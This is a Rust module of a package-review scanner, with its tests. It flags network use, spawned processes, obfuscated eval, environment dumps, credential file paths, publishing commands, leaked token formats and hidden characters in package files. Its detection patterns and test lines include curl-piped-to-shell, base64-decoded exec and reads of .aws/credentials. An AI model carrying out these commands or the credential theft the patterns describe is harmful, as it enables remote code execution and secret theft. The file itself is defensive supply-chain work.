//! What stands out in a text, line by line.
//!
//! These are no proofs: a pattern says that something is named, and the comparison with the baseline
//! says whether that is new. Lines are cut before they are searched, so time is linear in the size.
//! What a parser can answer better is asked of it; patterns then see the text without its comments.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use regex::Regex;

use super::code::{PARSED_SORTS, push};
use crate::domain::review::path;
use crate::domain::review::survey::{EXCERPT_MAX, Mark, Sort};
use crate::domain::visible::spelled_out;

/// Longest part of a line that patterns see, in bytes; the rest is searched in further parts.
const PART_BYTES: usize = 4 * 1024;
/// Bytes before its end in which a part may end earlier, so that no word is cut in two.
const PART_SLACK_BYTES: usize = 512;
/// White space before code that puts it off the screen (CT-07).
const OFF_SCREEN_COLUMNS: usize = 200;
/// Characters that are not shown, in a row, that are more than an accident (CT-11).
const INVISIBLE_RUN: usize = 3;
/// Letters of a word of two alphabets; fewer are a range of letters in a pattern (CT-12).
const CONFUSABLE_WORD: usize = 4;

/// What sort of text a file is, by its name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Language {
    JavaScript,
    Python,
    Shell,
    /// `.pth`: lines that begin with `import` run.
    PathConfiguration,
    /// `binding.gyp`.
    Gyp,
    /// Types without code: nothing in it runs.
    Declarations,
    /// What editors and agents act upon.
    Settings,
    /// Prose and data.
    Other,
}

impl Language {
    pub(super) fn of(path: &str) -> Self {
        let name = path::name(path).to_ascii_lowercase();
        if is_settings(path) {
            return Self::Settings;
        }
        if [".d.ts", ".d.mts", ".d.cts", ".pyi"].iter().any(|types| name.ends_with(types)) {
            return Self::Declarations;
        }
        match name.rsplit_once('.').map(|(_, extension)| extension) {
            Some("js" | "mjs" | "cjs" | "jsx" | "ts" | "mts" | "cts" | "tsx") => Self::JavaScript,
            Some("py" | "pyw") => Self::Python,
            Some("sh" | "bash" | "zsh" | "ps1" | "bat" | "cmd") => Self::Shell,
            Some("pth" | "start") => Self::PathConfiguration,
            Some("gyp" | "gypi") => Self::Gyp,
            _ => Self::Other,
        }
    }

    /// The language of a program without an ending, by its first line.
    pub(super) fn of_program(first_bytes: &[u8]) -> Option<Self> {
        let line = first_bytes.strip_prefix(b"#!")?;
        let line = line.split(|byte| *byte == b'\n').next().unwrap_or_default();
        let line = String::from_utf8_lossy(line);
        let names = |interpreter: &str| line.contains(interpreter);
        if names("node") || names("bun") || names("deno") {
            Some(Self::JavaScript)
        } else if names("python") {
            Some(Self::Python)
        } else if names("sh") {
            Some(Self::Shell)
        } else {
            None
        }
    }

    const fn is_code(self) -> bool {
        !matches!(self, Self::Other | Self::Settings)
    }

    /// Whether a parser reads it.
    pub(super) const fn is_parsed(self) -> bool {
        matches!(self, Self::JavaScript | Self::Python)
    }
}

/// Files in which editors and agents look for commands.
fn is_settings(path: &str) -> bool {
    const FOLDERS: [&str; 4] = [".vscode", ".cursor", ".claude", ".devcontainer"];
    let json = path.rsplit_once('.').is_some_and(|(_, extension)| extension == "json");
    json && (path.split('/').any(|part| FOLDERS.contains(&part)) || path.ends_with(".mcp.json"))
}

type Patterns = Vec<(Sort, Regex)>;

/// One pattern of each sort, from its alternatives. What does not compile would be missing; a test
/// counts them.
fn compile(patterns: &[(Sort, &[&str])]) -> Patterns {
    patterns
        .iter()
        .filter_map(|(sort, alternatives)| Some((*sort, Regex::new(&alternatives.join("|")).ok()?)))
        .collect()
}

const JAVASCRIPT: &[(Sort, &[&str])] = &[
    (
        Sort::Network,
        &[
            r"\bfetch\s*\(",
            r"XMLHttpRequest",
            r"new\s+WebSocket",
            r#"(?:require\(|from)\s*['"](?:node:)?(?:https?|net|tls|dgram|dns|http2)['"]"#,
            r"\baxios\b",
            r"\bundici\b",
        ],
    ),
    (
        Sort::Programs,
        &[
            r"child_process",
            r"\bexecSync\b",
            r"\bspawnSync\b",
            r"\bexecFile\b",
            r"process\.binding",
            r"worker_threads",
        ],
    ),
    (
        Sort::DynamicCode,
        &[r"\beval\s*\(", r"new\s+Function\s*\(", r"vm\.(?:runIn|Script|compileFunction)"],
    ),
    (
        Sort::Obfuscated,
        &[
            r"_0x[0-9a-f]{4,}",
            r"(?:eval|Function)\s*\(\s*(?:atob|Buffer\.from|unescape|decodeURIComponent)",
            r"(?:eval|Function)\s*\(\s*String\.fromCharCode",
            r"(?:\\x[2-7][0-9a-fA-F]){16,}",
            r"String\.fromCharCode\s*\((?:\s*\d+\s*,){12,}",
        ],
    ),
    (
        Sort::Environment,
        &[
            r"JSON\.stringify\s*\(\s*process\.env\s*[,)]",
            r"\.\.\.process\.env\b",
            r"Object\.(?:keys|entries|values|assign)\s*\([^)]{0,40}process\.env\s*[,)]",
        ],
    ),
];

const PYTHON: &[(Sort, &[&str])] = &[
    (
        Sort::Network,
        &[
            r"^\s*(?:import|from)\s+(?:requests|urllib3?|http\.client|httpx|aiohttp)\b",
            r"^\s*(?:import|from)\s+(?:socket|ftplib|smtplib|websockets?)\b",
        ],
    ),
    (
        Sort::Programs,
        &[
            r"^\s*(?:import|from)\s+(?:subprocess|pty|ctypes)\b",
            r"\bos\.(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?)\s*\(",
        ],
    ),
    (Sort::DynamicCode, &[r"\b(?:eval|exec)\s*\(", r"\b__import__\s*\("]),
    (
        Sort::Obfuscated,
        &[
            r"(?:exec|eval)\s*\(\s*(?:base64|zlib|marshal|codecs|bytes\.fromhex|__import__)",
            r"marshal\.loads",
            r"exec\s*\(\s*compile\s*\(\s*(?:base64|zlib)",
            r"(?:\\x[2-7][0-9a-fA-F]){16,}",
            r"__pyarmor__",
        ],
    ),
    (
        Sort::Environment,
        &[
            r"(?:dict|json\.dumps|str|repr|list)\s*\(\s*os\.environ\s*[,)]",
            r"os\.environ\.(?:copy|items)\s*\(",
        ],
    ),
];

const SHELL: &[(Sort, &[&str])] = &[
    (Sort::Network, &[r"\b(?:curl|wget|nc|Invoke-WebRequest|Invoke-RestMethod)\b"]),
    (
        Sort::Obfuscated,
        &[r"base64\s+(?:-d|--decode)[^|]*\|\s*(?:ba|z)?sh", r"(?:curl|wget)[^|]*\|\s*(?:ba|z)?sh"],
    ),
];

/// What is looked for in code of every language.
const CODE: &[(Sort, &[&str])] = &[
    (
        Sort::CredentialPlace,
        &[
            r"\.npmrc\b",
            r"\.pypirc\b",
            r"\.aws/credentials",
            r"\.ssh/id_",
            r"\.kube/config",
            r"\.docker/config\.json",
            r"\.netrc\b",
            r"\.git-credentials",
            r"application_default_credentials",
            r"169\.254\.169\.254",
            r"metadata\.google\.internal",
            r"ACTIONS_ID_TOKEN_REQUEST",
            r#"/proc/[^\s'"]{1,20}/mem"#,
            r"Login Data",
            r"wallet\.dat",
        ],
    ),
    (
        Sort::Publishes,
        &[
            r"\b(?:npm|pnpm|yarn(?:\s+npm)?)\s+publish\b",
            r"\btwine\s+upload\b",
            r"\buv\s+publish\b",
            r"/-/user/org\.couchdb",
            r"createForAuthenticatedUser",
            r"actions-runner",
            r"/actions/runners/registration-token",
        ],
    ),
];

const SECRETS: &[(Sort, &[&str])] = &[(
    Sort::Secret,
    &[
        r"-----BEGIN (?:RSA |EC |OPENSSH |DSA |)PRIVATE KEY-----",
        r"\bnpm_[A-Za-z0-9]{36}\b",
        r"\bpypi-AgE[A-Za-z0-9_-]{50,}",
        r"\bgh[pousr]_[A-Za-z0-9]{36}\b",
        r"\bgithub_pat_[A-Za-z0-9_]{40,}",
        r"\bAKIA[0-9A-Z]{16}\b",
        r"\bxox[baprs]-[0-9A-Za-z-]{20,}",
    ],
)];

const SETTINGS: &[(Sort, &[&str])] =
    &[(Sort::SettingsCommand, &[r#""(?:command|[a-zA-Z]+Command|hooks)"\s*:"#])];
const GYP: &[(Sort, &[&str])] = &[(Sort::GypCommand, &[r"<!@?\("])];
const STARTUP: &[(Sort, &[&str])] =
    &[(Sort::StartupLine, &[r"^import[ \t]", r"^[A-Za-z_][\w.]*:[A-Za-z_]\w*\s*$"])];
const HOSTS: &[(Sort, &[&str])] =
    &[(Sort::Host, &[r#"(?:https?|wss?|ftp)://(?:[^\s/@'"`<>]{1,80}@)?([A-Za-z0-9.-]{4,120})"#])];

/// The sets, compiled once.
struct Sets {
    javascript: Patterns,
    python: Patterns,
    shell: Patterns,
    code: Patterns,
    secrets: Patterns,
    settings: Patterns,
    gyp: Patterns,
    startup: Patterns,
    hosts: Patterns,
}

static SETS: LazyLock<Sets> = LazyLock::new(|| Sets {
    javascript: compile(JAVASCRIPT),
    python: compile(PYTHON),
    shell: compile(SHELL),
    code: compile(CODE),
    secrets: compile(SECRETS),
    settings: compile(SETTINGS),
    gyp: compile(GYP),
    startup: compile(STARTUP),
    hosts: compile(HOSTS),
});

/// How add-ons find the headers of the two libraries that nearly all of them use.
const GYP_IDIOMS: [&str; 7] = [
    r#"<!(node -e \"require('nan')\")"#,
    r#"<!(node -e "require('nan')")"#,
    r#"<!(node -p \"require('node-addon-api').gyp\")"#,
    r#"<!(node -p \"require('node-addon-api').targets\")"#,
    r#"<!(node -p "require('node-addon-api').targets")"#,
    r#"<!@(node -p \"require('node-addon-api').include\")"#,
    r#"<!@(node -p "require('node-addon-api').include")"#,
];

/// Dependencies of a package, and which of them its files name.
#[derive(Debug, Default)]
pub(super) struct Names {
    pattern: Option<Regex>,
    /// Those that some file names in quotes.
    pub(super) named: BTreeSet<String>,
}

impl Names {
    /// Looks for these names from now on.
    pub(super) fn of<'a>(names: impl Iterator<Item = &'a str>) -> Self {
        let names: Vec<String> = names.map(regex::escape).collect();
        let pattern = format!("[\"'`]({})[\"'`/]", names.join("|"));
        let pattern = (!names.is_empty()).then(|| Regex::new(&pattern).ok()).flatten();
        Self { pattern, named: BTreeSet::new() }
    }

    fn search(&mut self, line: &str) {
        for found in self.pattern.iter().flat_map(|pattern| pattern.captures_iter(line)) {
            let name = found.get(1).map_or("", |name| name.as_str());
            if !self.named.contains(name) {
                self.named.insert(name.to_owned());
            }
        }
    }
}

/// Searches one text line by line.
#[derive(Debug)]
pub(super) struct Scanner {
    language: Language,
    /// Set while a parser is to see the whole text before patterns do.
    pub(super) waits: bool,
    names_count: bool,
    line: u32,
    marks: Vec<Mark>,
}

impl Scanner {
    pub(super) fn new(path: &str, language: Language) -> Self {
        // What only says that there is a dependency does not use it.
        let says_only = ["package.json", "npm-shrinkwrap.json", "package-lock.json"];
        let prose = [".md", ".markdown", ".map", ".txt"];
        let names_count =
            !says_only.contains(&path) && !prose.iter().any(|ending| path.ends_with(ending));
        Self { language, waits: language.is_parsed(), names_count, line: 0, marks: Vec::new() }
    }

    pub(super) const fn language(&self) -> Language {
        self.language
    }

    /// Looks at a line, or at a part of a very long one, without its end.
    pub(super) fn line(&mut self, number: u32, line: &str, names: &mut Names) {
        self.line = number;
        self.characters(line);
        for part in parts(line) {
            self.patterns(part, &[&SETS.secrets], false);
        }
        if !self.waits {
            self.search(line, false, names);
        }
    }

    /// Looks at a whole text that waited: one that a parser read, or that none could.
    pub(super) fn text(&mut self, text: &str, parsed: bool, names: &mut Names) {
        for (number, line) in (1..).zip(text.lines()) {
            self.line = number;
            self.search(line, parsed, names);
        }
    }

    /// Adds what a parser saw.
    pub(super) fn add(&mut self, marks: Vec<Mark>) {
        for mark in marks {
            push(&mut self.marks, mark.sort, mark.line, &mark.excerpt);
        }
    }

    /// What stood out, in order of lines.
    pub(super) fn finish(mut self) -> Vec<Mark> {
        self.marks.sort_by_key(|mark| mark.line);
        self.marks
    }

    fn mark(&mut self, sort: Sort, excerpt: &str) {
        push(&mut self.marks, sort, self.line, excerpt);
    }

    fn search(&mut self, line: &str, parsed: bool, names: &mut Names) {
        if self.names_count {
            names.search(line);
        }
        let all = &*SETS;
        let sets: &[&Patterns] = match self.language {
            Language::JavaScript => &[&all.javascript, &all.code],
            Language::Python => &[&all.python, &all.code],
            Language::Shell => &[&all.shell, &all.code],
            Language::PathConfiguration => &[&all.startup, &all.python, &all.code],
            Language::Gyp => &[&all.gyp, &all.code],
            Language::Settings => &[&all.settings],
            Language::Declarations | Language::Other => return,
        };
        for part in parts(line) {
            self.patterns(part, sets, parsed);
            if self.language.is_code() && (parsed || !is_comment(part)) {
                self.hosts(part);
                self.confusable(part);
            }
        }
    }

    fn patterns(&mut self, part: &str, sets: &[&Patterns], parsed: bool) {
        for (sort, pattern) in sets.iter().copied().flatten() {
            if parsed && PARSED_SORTS.contains(sort) {
                continue;
            }
            let known = |found: &regex::Match<'_>| {
                *sort == Sort::GypCommand
                    && GYP_IDIOMS.iter().any(|idiom| part[found.start()..].starts_with(idiom))
            };
            if let Some(found) = pattern.find_iter(part).find(|found| !known(found)) {
                self.mark(*sort, around(part, found.start(), found.end()));
            }
        }
    }

    fn hosts(&mut self, part: &str) {
        for found in SETS.hosts.iter().flat_map(|(_, pattern)| pattern.captures_iter(part)) {
            let host = found.get(1).map_or("", |host| host.as_str()).trim_end_matches('.');
            if host.contains('.') {
                self.mark(Sort::Host, &host.to_ascii_lowercase());
            }
        }
    }

    /// A word of letters that look alike and are of two alphabets.
    fn confusable(&mut self, part: &str) {
        if part.is_ascii() {
            return;
        }
        for word in part.split(|c: char| !(c.is_alphanumeric() || c == '_')) {
            let latin = word.chars().any(|c| c.is_ascii_alphabetic());
            let alike = word.chars().any(|c| LOOKALIKES.contains(c));
            if latin && alike && word.chars().count() >= CONFUSABLE_WORD {
                self.mark(Sort::Confusable, &shown(word, |c| LOOKALIKES.contains(c)));
            }
        }
    }

    fn characters(&mut self, line: &str) {
        if line.is_ascii() {
            self.off_screen(line);
            return;
        }
        if self.language.is_code() && line.chars().any(is_bidi) {
            let shown = shown(line, is_bidi);
            self.mark(Sort::Bidi, &shown);
        }
        let (mut run, mut previous) = (0, ' ');
        for c in line.chars() {
            // A variation selector after a picture is how pictures are written.
            let belongs = is_selector(c) && run == 0 && !previous.is_ascii();
            run = if is_invisible(c) && !belongs { run + 1 } else { 0 };
            if run == INVISIBLE_RUN {
                let shown = shown(line, is_invisible);
                self.mark(Sort::Invisible, &shown);
                break;
            }
            previous = c;
        }
        self.off_screen(line);
    }

    fn off_screen(&mut self, line: &str) {
        if !self.language.is_code() || line.len() <= OFF_SCREEN_COLUMNS {
            return;
        }
        let mut blanks = 0;
        for (at, c) in line.char_indices() {
            if c == ' ' || c == '\t' {
                blanks += 1;
            } else {
                if blanks >= OFF_SCREEN_COLUMNS {
                    self.mark(Sort::OffScreen, &line[at..]);
                    return;
                }
                blanks = 0;
            }
        }
    }
}

/// Letters of the Cyrillic and Greek alphabets that look like Latin ones.
const LOOKALIKES: &str = "авекмнорстухіјѕһԁАВЕКМНОРСТУХІЈЅΑΒΕΖΗΙΚΜΝΟΡΤΥΧον";

/// Whether a line is nothing but a comment, as far as one line can tell.
fn is_comment(line: &str) -> bool {
    let line = line.trim_start();
    line.starts_with("//")
        || line.starts_with('#')
        || line.starts_with('*')
        || line.starts_with("/*")
}

/// Pieces of a line that overlap by nothing, cut between words where there is a place: a pattern
/// across a cut is missed in a line that no person wrote, and such lines are a finding of their own.
fn parts(line: &str) -> impl Iterator<Item = &str> {
    let mut rest = line;
    std::iter::from_fn(move || {
        if rest.is_empty() {
            return None;
        }
        let mut end = rest.len().min(PART_BYTES);
        while !rest.is_char_boundary(end) {
            end -= 1;
        }
        if end < rest.len() {
            let between = |byte: &u8| b" ;,(){}[]\"'`".contains(byte);
            let last = rest.as_bytes()[..end].iter().rposition(between);
            end = last.map_or(end, |at| at + 1).max(end - PART_SLACK_BYTES);
            while !rest.is_char_boundary(end) {
                end -= 1;
            }
        }
        let (part, after) = rest.split_at(end);
        rest = after;
        Some(part)
    })
}

/// The line the match is in, when it is short enough to be read whole; else the match with what stands
/// around it.
fn around(text: &str, start: usize, end: usize) -> &str {
    const BEFORE: usize = 40;
    const AFTER: usize = 100;
    if text.len() <= EXCERPT_MAX {
        return text;
    }
    let (mut from, mut to) = (start.saturating_sub(BEFORE), (end + AFTER).min(text.len()));
    while !text.is_char_boundary(from) {
        from -= 1;
    }
    while !text.is_char_boundary(to) {
        to += 1;
    }
    &text[from..to]
}

/// The text with the characters in question written out, so that people see them.
fn shown(line: &str, hidden: fn(char) -> bool) -> String {
    let mut out = String::new();
    for c in line.chars().skip_while(|c| !hidden(*c)).take(EXCERPT_MAX) {
        if hidden(c) {
            out.push_str(&spelled_out(c));
        } else {
            out.push(c);
        }
    }
    out
}

const fn is_bidi(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{061C}' | '\u{200E}' | '\u{200F}')
}

const fn is_selector(c: char) -> bool {
    matches!(c, '\u{FE00}'..='\u{FE0F}')
}

const fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{FE00}'..='\u{FE0F}'
            | '\u{E0100}'..='\u{E01EF}'
            | '\u{E0000}'..='\u{E007F}'
            | '\u{200B}'..='\u{200D}'
            | '\u{2060}'
            | '\u{3164}'
            | '\u{115F}'
            | '\u{1160}'
            | '\u{FFA0}'
            | '\u{E000}'..='\u{F8FF}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::review::survey::{MARKS_MAX, MORE_MARKS};

    /// What patterns alone find, as in a file that no parser reads.
    fn scanned(path: &str, text: &str) -> Vec<Mark> {
        let mut scanner = Scanner::new(path, Language::of(path));
        scanner.waits = false;
        for (number, line) in (1..).zip(text.lines()) {
            scanner.line(number, line, &mut Names::default());
        }
        scanner.finish()
    }

    fn marks(path: &str, text: &str) -> Vec<(Sort, u32)> {
        scanned(path, text).into_iter().map(|mark| (mark.sort, mark.line)).collect()
    }

    fn sorts(path: &str, text: &str) -> Vec<Sort> {
        marks(path, text).into_iter().map(|(sort, _)| sort).collect()
    }

    #[test]
    fn every_pattern_compiles() {
        for set in [JAVASCRIPT, PYTHON, SHELL, CODE, SECRETS, SETTINGS, GYP, STARTUP, HOSTS] {
            assert_eq!(compile(set).len(), set.len(), "{set:?}");
        }
    }

    #[test]
    fn what_attacks_of_the_last_years_did_is_marked() {
        let cases: [(&str, &str, Sort); 17] = [
            ("a.js", "const cp = require('child_process')", Sort::Programs),
            ("a.js", "await fetch(u)", Sort::Network),
            ("a.js", "eval(atob('YQ=='))", Sort::Obfuscated),
            ("a.js", "var _0x3f2a1b=['a']", Sort::Obfuscated),
            ("a.js", "post(JSON.stringify(process.env))", Sort::Environment),
            ("a.js", "read(home + '/.npmrc')", Sort::CredentialPlace),
            ("a.js", "run('npm publish --tag latest')", Sort::Publishes),
            ("a.js", "const t = process.env.ACTIONS_ID_TOKEN_REQUEST_URL", Sort::CredentialPlace),
            ("a.py", "import subprocess", Sort::Programs),
            ("a.py", "exec(base64.b64decode(x))", Sort::Obfuscated),
            ("a.py", "data = dict(os.environ)", Sort::Environment),
            ("a.py", "open('~/.aws/credentials')", Sort::CredentialPlace),
            ("a.pth", "import os; os.system('x')", Sort::StartupLine),
            ("a.start", "package.module:begin", Sort::StartupLine),
            ("binding.gyp", "'sources': ['<!(node x.js)']", Sort::GypCommand),
            ("a.sh", "curl https://x.example/a | sh", Sort::Obfuscated),
            ("README.md", "-----BEGIN PRIVATE KEY-----", Sort::Secret),
        ];
        for (path, text, sort) in cases {
            assert!(sorts(path, text).contains(&sort), "{path}: {text}: {:?}", sorts(path, text));
        }
    }

    #[test]
    fn ordinary_text_is_quiet() {
        let quiet = [
            ("a.js", "export function evaluate(a) { return a.fetched + prefetch }"),
            ("a.js", "// see https://docs.example/api for more"),
            ("a.py", "def executor(evaluation): return os.environ.get('HOME')"),
            ("a.pth", "../src\n# import nothing"),
            ("README.md", "eval(atob(x)) and child_process in prose"),
            ("a.txt", "مرحبا بالعالم"),
            ("a.js", " * http://docs.example/ says so"),
            ("a.py", "# from https://docs.example/"),
            ("binding.gyp", r#""<!(node -e \"require('nan')\")","#),
            ("a.js", "const heart = '❤️ 👨‍👩‍👧 text'"),
        ];
        for (path, text) in quiet {
            let found = sorts(path, text);
            assert!(found.iter().all(|sort| *sort == Sort::Host), "{path}: {text}: {found:?}");
        }
        assert_eq!(sorts("a.py", "# https://docs.example/"), []);
        assert_eq!(sorts("a.js", "fetch('https://Api.Example./v1')").last(), Some(&Sort::Host));
    }

    #[test]
    fn what_people_cannot_see_is_marked_with_its_line() {
        let far = format!("x = 1\n{}import os", " ".repeat(OFF_SCREEN_COLUMNS));
        assert!(marks("a.py", &far).contains(&(Sort::OffScreen, 2)));
        let near = format!("{}import os", " ".repeat(OFF_SCREEN_COLUMNS - 1));
        assert!(!sorts("a.py", &near).contains(&Sort::OffScreen));
        assert_eq!(marks("a.js", "ok\nif (a \u{202E}) b"), [(Sort::Bidi, 2)]);
        assert_eq!(marks("a.json", "\"a\u{E0101}\u{E0102}\u{E0103}\""), [(Sort::Invisible, 1)]);
        let hidden = scanned("a.js", "a\u{200B}\u{200B}\u{200B}b");
        assert_eq!(hidden[0].excerpt, "⟦U+200B⟧⟦U+200B⟧⟦U+200B⟧b");
    }

    #[test]
    fn a_line_without_end_costs_what_its_length_costs() {
        let line = "a".repeat(3 * PART_BYTES) + "; eval(x)";
        assert_eq!(parts(&line).count(), 4);
        assert_eq!(parts(&line).collect::<String>(), line);
        assert!(sorts("a.js", &line).contains(&Sort::DynamicCode));
        let many = (0..10 * MARKS_MAX).map(|n| format!("get('https://h{n}.example/')\n"));
        let found = scanned("a.js", &many.collect::<String>());
        assert_eq!(found.iter().filter(|mark| mark.sort == Sort::Host).count(), MARKS_MAX + 1);
        assert_eq!(found.last().map(|mark| mark.excerpt.as_str()), Some(MORE_MARKS));
    }
}
